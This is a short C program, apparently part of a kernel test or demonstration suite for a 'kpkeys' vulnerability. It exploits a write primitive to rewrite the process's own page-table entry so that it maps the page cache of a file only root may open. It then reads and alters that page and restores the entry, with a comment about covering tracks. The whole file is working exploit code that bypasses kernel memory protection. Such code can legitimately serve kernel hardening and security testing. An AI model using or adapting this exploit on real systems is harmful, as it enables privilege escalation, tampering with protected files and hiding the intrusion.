// SPDX-License-Identifier: GPL-2.0-only
/*
 * Rewrite the attacker's own page-table entry so that it maps a page of the
 * page cache of a file that only root may open.
 */
#include "common.h"

int main(int argc, char **argv)
{
	const struct kpkeys_vuln_info *info = vuln_info();
	long size = page_size();
	char *m = map_pages(NULL, 3 * size);
	struct kpkeys_vuln_entry e;
	u64 secret = vuln_file_phys(argc > 1 ? argv[1] : NULL);

	m[size] = 1;
	e = vuln_entry(KPKEYS_VULN_SELF, m + size, KPKEYS_VULN_PTE);

	vuln_write(e.addr, secret | info->pte_user);
	sync_between(m, m + 2 * size);
	steal_and_alter(m + size);

	/* Cover the tracks: the page is not this process's to free at exit. */
	vuln_write(e.addr, e.value | info->sync);
	sync_between(m, m + 2 * size);
	return 0;
}
